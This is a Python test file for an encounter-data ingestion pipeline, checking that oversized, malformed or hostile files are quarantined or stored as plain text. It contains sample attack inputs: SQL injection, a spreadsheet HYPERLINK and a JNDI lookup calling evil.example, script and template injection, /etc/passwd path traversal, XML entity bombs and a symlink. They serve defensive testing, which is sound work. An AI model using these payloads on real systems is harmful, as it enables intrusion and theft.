"""Encounter files made to harm: refused with a reason, or read as the texts they are; the night goes on."""

from __future__ import annotations

import csv
import datetime as dt
import json
from typing import TYPE_CHECKING

import pytest

from era_parser import Source
from flows.encounters import take_in_encounters
from flows.home import Home, make_home
from flows.reception import MOST_BYTES
from tests.hostile.test_workbooks import BOMBS, LAUGHS, OUTSIDE, workbook
from warehouse.database import make_warehouse, open_warehouse
from warehouse.encounters import NotEncountersError, read_encounters

if TYPE_CHECKING:
    from pathlib import Path

HEADER = b"account,date,code,minutes,note\n"
ROW = b"A1,2026-03-02,97110,15,"
AS_OF = dt.date(2026, 7, 1)

WORKBOOKS = BOMBS | {
    "entities in entities": workbook(LAUGHS + "<x>&a11;</x>"),
    "a file named by an entity": workbook(OUTSIDE + "<x>&e;</x>"),
}


@pytest.fixture
def home(tmp_path: Path) -> Home:
    place = make_home(tmp_path / "home")
    make_warehouse(place.warehouse)
    return place


def taken_in(home: Home) -> dict[str, int]:
    counts = take_in_encounters(home, AS_OF)
    assert list(home.folder("encounters").iterdir()) == []
    return dict(counts)


@pytest.mark.parametrize("name", WORKBOOKS)
def test_a_workbook_that_asks_for_too_much_is_turned_away(name: str) -> None:
    with pytest.raises(NotEncountersError):
        read_encounters(Source("visits.xlsx", WORKBOOKS[name]))


def test_a_file_of_five_gigabytes_is_turned_away_unread(home: Home) -> None:
    """It takes no room here: all of it is a hole."""
    path = home.folder("encounters") / "visits.csv"
    with path.open("wb") as out:
        out.write(HEADER)
        out.truncate(MOST_BYTES + 1)
    assert taken_in(home) == {"encounters_refused": 1}
    (reason,) = [json.loads(file.read_text()) for file in home.folder("quarantine").glob("*.json")]
    assert reason["code"] == "NOT_ENCOUNTERS"
    assert "larger than 64 MB" in reason["message"]


def test_more_rows_than_any_practice_has(monkeypatch: pytest.MonkeyPatch) -> None:
    """The limit is 500,000; a lower one is met sooner."""
    monkeypatch.setattr("warehouse.encounters.reading._MOST_ROWS", 1_000)
    with pytest.raises(NotEncountersError, match="more than 1,000 rows"):
        read_encounters(Source("visits.csv", HEADER + (ROW + b"\n") * 1_001))
    with pytest.raises(NotEncountersError, match="more than 1,000 rows"):
        read_encounters(Source("visits.csv", HEADER + b",\x20,x\n" * 2_001))


@pytest.mark.parametrize(
    "text",
    [
        b"'; drop table row; --",
        b'"=HYPERLINK(""http://evil.example"",""x"")"',
        b"<script>alert(1)</script>",
        b"../../../../etc/passwd",
        b"\x1b]8;;http://evil.example\x1b\\x",
        "\u202egnp.exe".encode(),
        b"{{7*7}} %s ${jndi:ldap://evil.example}",
        b"A" * 4_000_000,
    ],
)
def test_texts_are_texts(text: bytes, home: Home) -> None:
    (home.folder("encounters") / "visits.csv").write_bytes(HEADER + ROW + text + b"\n")
    assert taken_in(home) == {"encounters": 1}
    with open_warehouse(home.warehouse) as con:
        assert con.execute("select outcome from era.file_seen").fetchall() == [("encounters",)]


@pytest.mark.parametrize("data", [b"", b"\0" * 1000, b"\xff\xfe" * 500, b'"' * 100_000, b"," * 1_000_000])
def test_what_is_no_table_is_turned_away(data: bytes, home: Home) -> None:
    (home.folder("encounters") / "visits.csv").write_bytes(data)
    assert taken_in(home) == {"encounters_refused": 1}


def test_the_limits_of_other_files_stay_as_they_were() -> None:
    before = csv.field_size_limit()
    read_encounters(Source("visits.csv", HEADER + ROW + b"A" * 200_000 + b"\n"))
    with pytest.raises(NotEncountersError):
        read_encounters(Source("visits.csv", HEADER + ROW + b"A" * 5_000_000 + b"\n"))
    assert csv.field_size_limit() == before


def test_names_and_links(home: Home, tmp_path: Path) -> None:
    """A link is never followed; a name that leads elsewhere or is no text stays a name."""
    secret = tmp_path / "secret.csv"
    secret.write_bytes(HEADER + ROW + b"\n")
    folder = home.folder("encounters")
    (folder / "link.csv").symlink_to(secret)
    (folder / "a..%2f..%2fevil\n\x1b[2J.csv").write_bytes(b"nothing")
    assert dict(take_in_encounters(home, AS_OF)) == {"encounters_refused": 1}
    assert (folder / "link.csv").is_symlink()
    assert secret.exists()
    names = {path.name for path in home.folder("quarantine").iterdir()}
    assert all(name.isprintable() and "/" not in name and "\x1b" not in name for name in names)
